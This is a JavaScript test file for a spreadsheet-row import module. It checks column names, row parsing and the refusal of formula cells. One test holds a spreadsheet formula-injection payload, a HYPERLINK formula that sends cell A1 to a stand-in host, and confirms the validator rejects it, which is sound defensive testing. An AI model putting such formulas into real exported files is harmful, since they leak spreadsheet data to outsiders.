import { formulaCell, missingColumns, rowToInput } from './request-row.js';

describe('import rows', () => {
  it('names the columns a file lacks, whatever their case or spacing', () => {
    expect(
      missingColumns(['State', 'Kind', 'Topics', 'Priority area', 'received-on', 'CHANNEL', 'description']),
    ).toEqual([]);
    expect(missingColumns(['state', 'kind'])).toEqual([
      'topics',
      'priority_area',
      'received_on',
      'channel',
      'description',
    ]);
  });

  it('reads a row as a person writes it', () => {
    const { state, input } = rowToInput({
      state: ' Kenya ',
      kind: 'training',
      topics: 'Cybercrime; money laundering',
      priority_area: 'b',
      received_on: '2009-02-01',
      channel: 'Field office',
      description: 'Prosecutors',
      confidential: 'yes',
      instruments: 'untoc, tip',
    });
    expect(state).toBe('Kenya');
    expect(input).toMatchObject({
      kind: 'TRAINING',
      topics: ['cybercrime', 'money-laundering'],
      priorityAreaCode: 'B',
      channel: 'field-office',
      confidential: true,
      instruments: ['UNTOC', 'TIP'],
    });
  });

  it('refuses a cell a spreadsheet would run as a formula, naming its column', () => {
    const row = {
      state: 'Kenya',
      kind: 'training',
      topics: 'cybercrime',
      priority_area: 'B',
      received_on: '2009-02-01',
      channel: 'email',
      description: 'Prosecutors',
    };
    expect(formulaCell(row)).toBeNull();
    expect(formulaCell({ ...row, description: 'Prosecutors = judges, -10 % +5 @ home' })).toBeNull();
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const problem = formulaCell({ ...row, description: `${start}HYPERLINK("http://x.test/?"&A1,"click")` });
      expect(problem).toMatchObject({ field: 'description' });
      expect(problem?.message).toMatch(/formula/);
    }
    expect(formulaCell({ ...row, topics: '@cybercrime' })).toMatchObject({ field: 'topics' });
  });
});
